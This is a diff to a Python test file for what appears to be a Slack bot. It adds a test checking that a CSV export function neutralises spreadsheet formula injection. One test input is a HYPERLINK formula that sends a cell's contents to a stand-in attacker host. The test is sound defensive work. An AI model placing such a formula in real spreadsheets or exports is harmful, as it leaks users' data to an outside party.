@@ -70,3 +70,14 @@ def test_escape_then_decode_is_identity(text: str) -> None:
 
 def test_nul_characters_are_dropped() -> None:
     assert decode_slack_text("print\x00er jams") == "printer jams"
+
+
+def test_csv_cells_never_run_as_formulas() -> None:
+    from bot.export import csv_cell
+
+    assert csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
+    assert csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
+    assert csv_cell("-1+2") == "'-1+2"
+    assert csv_cell("Printer jams") == "Printer jams"
+    assert (csv_cell(True), csv_cell(False), csv_cell(None)) == ("true", "false", "")
+    assert csv_cell(["vip", "billing"]) == "vip billing"
